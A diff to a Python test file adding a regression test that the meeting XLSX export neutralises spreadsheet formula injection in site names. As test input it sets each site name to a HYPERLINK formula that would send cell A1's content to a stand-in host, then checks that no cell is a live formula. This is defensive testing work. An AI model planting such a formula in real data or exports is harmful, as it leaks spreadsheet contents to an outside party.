@@ -77,3 +77,20 @@ def test_an_export_frame_opens_as_text_in_a_spreadsheet() -> None:
     values = [[c.value for c in row] for row in sheet.iter_rows(min_row=2)]
     assert values == [["'=1+1", 1], ["biasa", -2], ["xy", 3]]
     assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
+
+
+def test_the_meeting_workbook_carries_no_live_formula(sample_copy: Database) -> None:
+    """Site names starting with `=` once went out as live formulas in the meeting XLSX."""
+    from datetime import date
+
+    from pantau.brief import workbook
+    from pantau.meeting import build_brief
+
+    cur = sample_copy.cursor()
+    for site in tables.rows(cur, "sites"):
+        tables.update(cur, "sites", site["id"], {"name": '=HYPERLINK("http://x/?a="&A1,"klik")'})
+    brief = build_brief(sample_copy, date(2026, 11, 24), date(2026, 11, 17), NOW)
+    book = openpyxl.load_workbook(io.BytesIO(workbook(brief)))
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
+    assert any(str(c.value).startswith("'=HYPERLINK") for c in cells)
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
